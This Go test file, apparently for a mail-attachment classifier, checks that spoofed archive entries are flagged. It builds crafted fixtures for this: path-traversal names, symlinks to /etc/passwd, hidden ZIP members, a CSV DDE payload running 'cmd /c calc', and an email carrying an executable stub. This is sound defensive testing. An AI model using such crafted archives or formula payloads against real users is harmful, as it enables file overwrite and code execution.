		{name: "tar of text", data: tarFile(t, map[string][]byte{"a.txt": []byte("a"), "b.csv": []byte("1,2\n")}, "a.txt", "b.csv"), filename: "a.tar",
			class: ClassArchive, sniffed: "application/x-tar", clean: true},
		{name: "zip inside tar", data: tarFile(t, map[string][]byte{"x.zip": zipFile(t, zent{name: "p.doc", data: []byte("x"), raw: true, size: 1, flags: 1})}, "x.zip"), filename: "a.tar",
			class: ClassEncryptedArchive, enc: true, findings: []string{"zip: encrypted entry x.zip/p.doc"}},
	}
	runClassify(t, cases)
}

// runClassify classifies each case's data and checks the result.
func runClassify(t *testing.T, cases []classifyCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			res, err := Classify(bytes.NewReader(tc.data), int64(len(tc.data)), tc.declared, tc.filename, tc.lim)
			if err != nil {
				t.Fatalf("Classify: %v", err)
			}
			checkResult(t, tc, res)
		})
	}
}

func checkResult(t *testing.T, tc classifyCase, res Result) {
	t.Helper()
	if res.Class != tc.class {
		t.Errorf("Class = %q, want %q (result %+v)", res.Class, tc.class, res)
	}
	if tc.sniffed != "" && res.SniffedType != tc.sniffed {
		t.Errorf("SniffedType = %q, want %q", res.SniffedType, tc.sniffed)
	}
	if !KnownType(res.SniffedType) {
		// mugai check warns of a keep rule naming a type it does not know.
		t.Errorf("SniffedType %q is not a KnownType", res.SniffedType)
	}
	if res.Executable != tc.exe {
		t.Errorf("Executable = %v, want %v", res.Executable, tc.exe)
	}
	if res.Encrypted != tc.enc {
		t.Errorf("Encrypted = %v, want %v", res.Encrypted, tc.enc)
	}
	for _, f := range tc.findings {
		if !slices.Contains(res.Findings, f) {
			t.Errorf("finding %q missing from %q", f, res.Findings)
		}
	}
	if tc.clean && len(res.Findings) > 0 {
		t.Errorf("Findings = %q, want none", res.Findings)
	}
	if res.Mismatch != tc.mismatch {
		t.Errorf("Mismatch = %q, want %q", res.Mismatch, tc.mismatch)
	}
	checkInvariants(t, res)
}

// checkInvariants holds for every input (the fuzz targets use it too).
func checkInvariants(t testing.TB, res Result) {
	t.Helper()
	if !res.Class.Valid() {
		t.Errorf("Class %q is not one of the eight", res.Class)
	}
	if res.Executable && res.Class != ClassExecutable {
		t.Errorf("Executable but Class %q", res.Class)
	}
	if res.Encrypted && res.Class != ClassExecutable && res.Class != ClassEncryptedArchive {
		t.Errorf("Encrypted but Class %q", res.Class)
	}
	if res.SniffedType == "" {
		t.Error("empty SniffedType")
	}
	if len(res.Findings) > 100 {
		t.Errorf("%d findings", len(res.Findings))
	}
}

func manyEntries(t testing.TB, n int) []byte {
	var ents []zent
	for i := 0; i < n; i++ {
		ents = append(ents, stored(strings.Repeat("x", i%7+1)+string(rune('a'+i%26))+".txt", []byte("x")))
	}
	return zipFile(t, ents...)
}

// A ZIP of 100,000 entries: only MaxEntries of them cost anything.
func TestClassifyHugeDirectory(t *testing.T) {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for i := 0; i < 100000; i++ {
		fh := &zip.FileHeader{Name: "f", Method: zip.Store}
		if _, err := zw.CreateHeader(fh); err != nil {
			t.Fatal(err)
		}
	}
	zw.Close()
	start := time.Now()
	res, err := Classify(bytes.NewReader(b.Bytes()), int64(b.Len()), "", "many.zip", Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Class != ClassArchive || !slices.Contains(res.Findings, "archive: too many entries (more than 1000)") {
		t.Errorf("got %+v", res)
	}
	// A guard against work that grows with the entries past the limit
	// (quadratic in 100,000 takes minutes), not a measure of speed: see
	// TestClassifyBounded.
	if d := time.Since(start); d > 30*time.Second {
		t.Errorf("took %v", d)
	}
}

// A local header whose name differs from the central directory's: the
// extractor that reads local headers would write run.exe.
func TestClassifyLocalNameDiffers(t *testing.T) {
	data := zipFile(t, deflate("run.txt", []byte("MZ? no, text")))
	i := bytes.Index(data, []byte("run.txt")) // the local header comes first
	copy(data[i:], "run.exe")
	res, err := Classify(bytes.NewReader(data), int64(len(data)), "", "a.zip", Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Class != ClassExecutable || !slices.Contains(res.Findings, "zip: local name differs run.txt (local: run.exe)") {
		t.Errorf("got %+v", res)
	}
}

// A member whose local header is not in the central directory: streaming
// extractors write it, archive/zip does not list it.
func TestClassifyHiddenEntry(t *testing.T) {
	hidden := zipFile(t, deflate("payload.js", []byte("WScript.Echo(1)")))
	hidden = hidden[:bytes.Index(hidden, []byte("PK\x01\x02"))] // local header and data only
	// The visible archive's offsets count the hidden bytes: one archive.
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	zw.SetOffset(int64(len(hidden)))
	w, _ := zw.Create("readme.txt")
	w.Write([]byte("hello"))
	zw.Close()
	data := append(hidden, b.Bytes()...)
	res, err := Classify(bytes.NewReader(data), int64(len(data)), "", "a.zip", Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Class != ClassExecutable || !slices.Contains(res.Findings, "zip: entry outside central directory payload.js") {
		t.Errorf("got %+v", res)
	}
}

type failingReader struct{ after int64 }

func (f failingReader) ReadAt(p []byte, off int64) (int, error) {
	if off+int64(len(p)) > f.after {
		return 0, errors.New("disk on fire")
	}
	return len(p), nil
}

func TestClassifyReadError(t *testing.T) {
	_, err := Classify(failingReader{after: 10}, 1<<20, "", "a.bin", Limits{})
	if err == nil || !strings.Contains(err.Error(), "disk on fire") {
		t.Fatalf("err = %v, want the reader's error", err)
	}
	// A reader shorter than the size it was given is an error too.
	_, err = Classify(bytes.NewReader([]byte("short")), 100, "", "a.txt", Limits{})
	if !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Fatalf("err = %v, want ErrUnexpectedEOF", err)
	}
}

// TestNameFits: a name fits content its program reads as what mugai
// inspected: its own type, or any of the same family (an image viewer
// opens any raster image, Word any Word format, Excel any workbook,
// PowerPoint any presentation, by content), never one of another kind.
func TestNameFits(t *testing.T) {
	const (
		docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
		xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
		pptx = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
	)
	for _, tt := range []struct {
		ext, mt string
		want    bool
	}{
		// The same family: phones and old Office "save as" name files so.
		{".jpg", "image/png", true},
		{".png", "image/jpeg", true},
		{".jpeg", "image/heif", true},
		{".heic", "image/jpeg", true},
		{".gif", "image/webp", true},
		{".tif", "image/bmp", true},
		{".bmp", "image/tiff", true},
		{".doc", docx, true},
		{".docx", "application/msword", true},
		{".docx", "application/rtf", true},
		{".rtf", "application/msword", true},
		{".dotx", "application/msword", true},
		{".docm", docx, true},
		{".doc", "application/vnd.ms-word.document.macroEnabled.12", true},
		{".xls", "application/vnd.ms-excel.sheet.macroEnabled.12", true},
		{".xls", xlsx, true},
		{".xlsx", "application/vnd.ms-excel", true},
		{".xlsm", "application/vnd.ms-excel", true},
		{".ppt", pptx, true},
		{".pptx", "application/vnd.ms-powerpoint", true},
		{".pps", pptx, true},
		// Another kind: a vector image or a metafile is not read as a
		// raster image is, nor an image as a document.
		{".svg", "image/png", false},
		{".png", "image/svg+xml", false},
		{".emf", "image/png", false},
		{".wmf", "image/jpeg", false},
		{".jpg", "image/wmf", false},
		{".png", "image/emf", false},
		{".ico", "image/jpeg", false},
		{".ico", "image/png", true}, // an icon's images are PNG or BMP
		{".ico", "image/bmp", true},
		{".ico", "image/gif", false},
		{".cur", "image/png", false},
		{".png", "image/vnd.microsoft.icon", false},
		{".pdf", "image/png", false},
		{".jpg", "application/pdf", false},
		{".docx", "application/pdf", false},
		{".pdf", docx, false},
		{".doc", xlsx, false},
		{".xls", docx, false},
		{".xlsx", pptx, false},
		{".ppt", "application/msword", false},
		{".xls", "application/rtf", false},
		{".odt", docx, false},
		{".docx", "application/vnd.oasis.opendocument.text", false},
		{".docx", "image/png", false},
		{".pdf", "application/pdf", true},
		{".PDF", "application/pdf", true},
		{".xlsx", "application/pdf", false},
		{".pdf", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", false},
		{".xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", true},
		{".docx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", false},
		{".doc", "application/rtf", true},
		{".jpg", "image/jpeg", true},
		{".csv", "text/plain", true},
		{".sql", "text/plain", true}, // a text name mugai does not know
		{".pdf", "text/plain", false},
		{".txt", "image/png", false},
		{".jtd", "application/x-ole-storage", true}, // Ichitaro: a compound file of its own
		{".pdf", "application/x-ole-storage", false},
		{".ods", "application/vnd.oasis.opendocument.spreadsheet", true},
		{".odt", "application/vnd.oasis.opendocument.chart", true}, // an ODF kind with no table row: its family
		{".docx", "application/vnd.oasis.opendocument", false},
		// An OOXML package of no kind Office opens: LibreOffice opens
		// it as ODF if it also holds a mimetype member.
		{".odt", "application/vnd.openxmlformats-officedocument", false},
		{".docx", "application/vnd.openxmlformats-officedocument", false},
		{".xlsx", "application/vnd.openxmlformats-officedocument", false},
		{".vsdx", "application/vnd.openxmlformats-officedocument", true},
		{".zip", "application/x-7z-compressed", false},
		{"", "application/pdf", true},
		{".pdf", "application/octet-stream", true},
		{".foo", "image/png", false},
	} {
		if got := NameFits(tt.ext, tt.mt); got != tt.want {
			t.Errorf("NameFits(%q, %q) = %v, want %v", tt.ext, tt.mt, got, tt.want)
		}
	}
}

// TestArchiveMemberNames: a file in an archive whose extension is one
// mugai ties to a format must hold content that goes by it (NameFits),
// as an attached file's name must under a keep rule; the parts of an
// Office document, read by their declared types, need not. The real
// ZIPs: Info-ZIP's zip over LibreOffice Calc files and samples.
// Files that make Windows run or fetch something when opened, which
// Outlook and OWA block, are executables inside an archive too (a policy
// that keeps ZIPs kept them): remote desktop and sandbox files, Excel's
// query files, saved searches, PowerShell and Access files.
func TestArchiveRunnableNames(t *testing.T) {
	var cases []classifyCase
	for _, ext := range strings.Fields("rdp ica wcx contact mcl ppkg themepack deskthemepack xlm wsb search-ms dqy rqy oqy accda accdr accdt cdxml pssc udl asp aspx asx htc mcf bgi appcontent-ms msrcincident") {
		cases = append(cases, classifyCase{name: ext, data: zipFile(t, deflate("x."+ext, []byte("full address:s:evil.example\r\n"))), filename: "a.zip",
			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry x." + ext}})
	}
	runClassify(t, cases)
}

// A ZIP member whose Info-ZIP Unicode Path field (0x7075) names it
// otherwise is written out by unzip, libarchive, 7-Zip and WinRAR under
// that name: a script read as readme.txt lands as readme.js.
func TestZipUnicodePath(t *testing.T) {
	upath := func(name string) []byte {
		body := append([]byte{1, 0, 0, 0, 0}, name...)
		x := binary.LittleEndian.AppendUint16(nil, 0x7075)
		x = binary.LittleEndian.AppendUint16(x, uint16(len(body)))
		return append(x, body...)
	}
	script := []byte("WScript.Echo 1\r\n")
	runClassify(t, []classifyCase{
		{name: "a script named .txt, .js by its Unicode Path", filename: "a.zip",
			data:  zipFile(t, zent{name: "readme.txt", data: script, method: zip.Deflate, extra: upath("readme.js")}),
			class: ClassExecutable, exe: true,
			findings: []string{"zip: unicode path differs readme.txt (unicode path: readme.js)", "archive: executable entry readme.js"}},
		{name: "a workbook named .xlsx, .pdf by its Unicode Path", filename: "a.zip",
			data:  zipFile(t, zent{name: "a.xlsx", data: []byte("a,b\r\n"), method: zip.Deflate, extra: upath("a.pdf")}),
			class: ClassArchive, findings: []string{"zip: unicode path differs a.xlsx (unicode path: a.pdf)"}},
		// The same name in UTF-8, as Windows' legacy-encoding tools write it.
		{name: "the same name", filename: "a.zip",
			data:  zipFile(t, zent{name: "資料.txt", data: []byte("a\r\n"), method: zip.Deflate, extra: upath("資料.txt")}),
			class: ClassArchive, clean: true},
	})
}

func TestArchiveMemberNames(t *testing.T) {
	sample := func(name string) []byte {
		b, err := os.ReadFile(filepath.Join("testdata", "samples", name))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	const sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	bmp := append([]byte("BM\x46\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00"), make([]byte, 40)...)
	cases := []classifyCase{
		{name: "documents named as they are", data: sample("docs.zip"), filename: "docs.zip", class: ClassArchive, clean: true},
		{name: "workbook named .pdf", data: sample("workbook-as-pdf.zip"), filename: "docs.zip", class: ClassArchive,
			findings: []string{misnamedEntry + " 案内.pdf (" + sheet + ")"}},
		{name: "image named .pdf", data: sample("image-as-pdf.zip"), filename: "docs.zip", class: ClassArchive,
			findings: []string{misnamedEntry + " 地図.pdf (image/png)"}},
		{name: "program named .pdf", data: sample("exe-as-pdf.zip"), filename: "docs.zip", class: ClassExecutable, exe: true,
			findings: []string{"archive: executable entry 申請書.pdf", misnamedEntry + " 申請書.pdf (application/x-msdownload)"}},
		{name: "text named .xls, in a nested ZIP", data: zipFile(t, deflate("in.zip", zipFile(t, deflate("list.xls", []byte("a\tb\r\n1\t2\r\n"))))), filename: "a.zip",
			class: ClassArchive, findings: []string{"zip: nested archive in.zip", misnamedEntry + " in.zip/list.xls (text/plain)"}},
		{name: "PNG named .jpg, a name mugai does not know", data: zipFile(t, deflate("a.jpg", pngImage(t)), deflate("b.kmz", pngImage(t))), filename: "a.zip",
			class: ClassArchive, clean: true},
		{name: "an Office document's parts", data: docx(t, deflate("word/media/image1.emf", pngImage(t))), filename: "a.docx", class: ClassOffice, clean: true},
		// Nothing in an empty file for the program its name says to read.
		{name: "empty files", data: zipFile(t, deflate("空.pdf", nil), deflate("empty.xlsx", nil), stored("a.docx", nil)), filename: "a.zip", class: ClassArchive, clean: true},
		{name: "text named .pdf beside an empty file", data: zipFile(t, deflate("空.pdf", nil), deflate("b.pdf", []byte("%PDF"))), filename: "a.zip", class: ClassArchive,
			findings: []string{misnamedEntry + " b.pdf (text/plain)"}},
		// A favicon.ico is often a PNG renamed; an icon holds PNG or BMP images.
		{name: "PNG named .ico", data: zipFile(t, deflate("favicon.ico", pngImage(t)), deflate("b.ico", bmp)), filename: "a.zip", class: ClassArchive, clean: true},
		{name: "JPEG named .ico", data: zipFile(t, deflate("favicon.ico", []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00"))), filename: "a.zip", class: ClassArchive,
			findings: []string{misnamedEntry + " favicon.ico (image/jpeg)"}},
	}
	runClassify(t, cases)
}

// TestArchiveEscapingEntries: a member whose name an extractor would
// write outside the folder it extracts to (absolute, a drive, "..") is
// a finding, which blocks keeping the archive; names that only look
// alike are not.
func TestArchiveEscapingEntries(t *testing.T) {
	var cases []classifyCase
	for _, name := range []string{"../../Startup/a.txt", `..\..\a.txt`, "docs/../../a.txt", "/etc/a.txt", `\\server\share\a.txt`, `C:\Users\a.txt`, "c:a.txt", "docs/.. /a.txt", "docs/.../a.txt"} {
		cases = append(cases, classifyCase{name: name, data: zipFile(t, deflate(name, []byte("text"))), filename: "a.zip",
			class: ClassArchive, findings: []string{EscapingEntry + " " + name}})
	}
	for _, name := range []string{"docs/a..b.txt", "..a.txt", "docs/./a.txt", "a.txt..", "1:2.txt"} {
		cases = append(cases, classifyCase{name: name, data: zipFile(t, deflate(name, []byte("text"))), filename: "a.zip",
			class: ClassArchive, clean: true})
	}
	runClassify(t, cases)
}

// TestArchiveLinkEntries: a symbolic link in a ZIP (a Unix mode in the
// external attributes, whatever system is named as the maker: 7-Zip
// writes a Unix mode in entries made on Windows too) and a symbolic or
// hard link in a tar are a finding, which blocks keeping the archive,
// at any depth. The target is the extractor's to follow ("a" -> /etc,
// then "a/passwd" written through it; 7-Zip on Windows followed ZIP
// symlinks out of the folder, CVE-2025-11001 and -11002): one that
// looks harmless is refused too, since the sender chose it. Regular
// files and folders with Unix modes are not links.
func TestArchiveLinkEntries(t *testing.T) {
	const unix, fat = 3, 0
	symlink := func(name, target string) zent {
		return zent{name: name, data: []byte(target), method: zip.Deflate, host: unix, attrs: 0o120777 << 16}
	}
	cases := []classifyCase{
		{name: "ZIP symlink out, then a file through it", data: zipFile(t, symlink("a", "/etc"), deflate("a/passwd", []byte("x"))), filename: "a.zip",
			class: ClassArchive, findings: []string{LinkEntry + " a -> /etc"}},
		{name: "ZIP symlink to a harmless target", data: zipFile(t, deflate("README", []byte("x")), symlink("docs", "README")), filename: "a.zip",
			class: ClassArchive, findings: []string{LinkEntry + " docs -> README"}},
		{name: "ZIP symlink named as a folder", data: zipFile(t, zent{name: "up/", data: nil, method: zip.Store, host: unix, attrs: 0o120755 << 16}), filename: "a.zip",
			class: ClassArchive, findings: []string{LinkEntry + " up/"}},
		{name: "ZIP symlink made on Windows (Unix mode flagged 0x8000)", data: zipFile(t, zent{name: "s", data: []byte(`..\..\Startup`), method: zip.Deflate, host: fat, attrs: 0o120777<<16 | 0x8000 | 0x20}), filename: "a.zip",
			class: ClassArchive, findings: []string{LinkEntry + ` s -> ..\..\Startup`}},
		{name: "ZIP symlink in a nested ZIP", data: zipFile(t, deflate("in.zip", zipFile(t, symlink("x", "../../..")))), filename: "a.zip",
			class: ClassArchive, findings: []string{"zip: nested archive in.zip", LinkEntry + " in.zip/x -> ../../.."}},
		{name: "encrypted ZIP symlink", data: zipFile(t, zent{name: "s", data: []byte("0123456789"), raw: true, size: 10, flags: 1, host: unix, attrs: 0o120777 << 16}), filename: "a.zip",
			class: ClassEncryptedArchive, enc: true, findings: []string{LinkEntry + " s"}},
		{name: "tar symlink", data: tarOf(t, tent{name: "a", link: "/etc", typ: tar.TypeSymlink}, tent{name: "a/passwd", data: []byte("x")}), filename: "a.tar",
			class: ClassArchive, findings: []string{LinkEntry + " a -> /etc"}},
		{name: "tar hard link", data: tarOf(t, tent{name: "h", link: "/etc/passwd", typ: tar.TypeLink}), filename: "a.tar",
			class: ClassArchive, findings: []string{LinkEntry + " h -> /etc/passwd"}},
		{name: "tar.gz symlink to a harmless target", data: gzipOf(t, "", tarOf(t, tent{name: "README", data: []byte("x")}, tent{name: "docs", link: "README", typ: tar.TypeSymlink})), filename: "a.tar.gz",
			class: ClassArchive, findings: []string{LinkEntry + " docs -> README"}},
		{name: "tar with a symlink in a ZIP", data: zipFile(t, deflate("src.tar", tarOf(t, tent{name: "l", link: "../x", typ: tar.TypeSymlink}))), filename: "a.zip",
			class: ClassArchive, findings: []string{LinkEntry + " src.tar/l -> ../x"}},
		{name: "Unix files and folders", data: zipFile(t, zent{name: "d/", method: zip.Store, host: unix, attrs: 0o40755 << 16}, zent{name: "d/a.txt", data: []byte("x"), method: zip.Deflate, host: unix, attrs: 0o100644 << 16}), filename: "a.zip",
			class: ClassArchive, clean: true},
		{name: "tar of files", data: tarOf(t, tent{name: "a.txt", data: []byte("x")}), filename: "a.tar",
			class: ClassArchive, clean: true},
	}
	runClassify(t, cases)
}

// TestTarEntryTypes: a tar member of a type the extractor does not
// know is written out as a regular file (POSIX; GNU tar, libarchive),
// so its bytes are read as one's (red team: an executable, a CSV with
// DDE under typeflag 'Z' went unread); devices, volume labels and
// folders hold no file.
func TestTarEntryTypes(t *testing.T) {
	csv := []byte("a,b\r\n=cmd|' /c calc'!A1,=HYPERLINK(\"http://x/\")\r\n")
	cases := []classifyCase{
		{name: "executable under an unknown type", data: tarOf(t, tent{name: "readme.txt", typ: 'Z', data: peFile()}), filename: "a.tar",
			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry readme.txt"}},
		{name: "CSV with DDE under an unknown type, gzipped", data: gzipOf(t, "", tarOf(t, tent{name: "data.csv", typ: 'Z', data: csv})), filename: "a.tar.gz",
			class: ClassArchive, findings: []string{FormulaEntry + " data.csv (2 fields)"}},
		{name: "CSV with one formula field", data: tarOf(t, tent{name: "one.csv", typ: 'Z', data: []byte("a,b\r\n=cmd|' /c calc'!A1,x\r\n")}), filename: "a.tar",
			class: ClassArchive, findings: []string{FormulaEntry + " one.csv (1 field)"}},
		{name: "device, volume label and folder", data: tarOf(t, tent{name: "tty", typ: tar.TypeChar}, tent{name: "VOL1", typ: 'V'}, tent{name: "d/", typ: tar.TypeDir}), filename: "a.tar",
			class: ClassArchive, clean: true},
	}
	runClassify(t, cases)
}

// TestArchiveMessageEntries: a mail message (.eml, .msg, TNEF by its content), a calendar or a
// contact file in an archive opens, unpacked, in the program that shows
// or imports what it holds (HTML, attachments, folded or encoded text),
// none of which the archive's inspection reads: a ZIP kept by a rule
// delivered an .eml with a setup.exe in it (red team).
func TestArchiveMessageEntries(t *testing.T) {
	eml := []byte("From: a@example.jp\r\nContent-Type: multipart/mixed; boundary=z\r\n\r\n--z\r\nContent-Type: application/octet-stream; name=setup.exe\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAA\r\n--z--\r\n")
	tnef := append([]byte("\x78\x9f\x3e\x22\x01\x00"), make([]byte, 100)...)
	ics := []byte("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:htt\r\n ps://evil.example/x\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
	var cases []classifyCase
	for _, e := range []struct {
		name string
		data []byte
	}{
		{"invoice.eml", eml}, {"mail/item.msg", []byte("not really OLE")}, {"data.bin", tnef},
		{"winmail.dat", tnef}, {"invite.ics", ics}, {"card.vcf", []byte("BEGIN:VCARD\r\nEND:VCARD\r\n")},
	} {
		cases = append(cases, classifyCase{name: e.name + " in a ZIP", data: zipFile(t, deflate(e.name, e.data)), filename: "a.zip",
			class: ClassArchive, findings: []string{MessageEntry + " " + e.name}})
	}
	cases = append(cases, classifyCase{name: "the same text as .txt in a ZIP", data: zipFile(t, deflate("invoice.txt", eml)), filename: "a.zip",
		class: ClassArchive, clean: true})
	runClassify(t, cases)
}
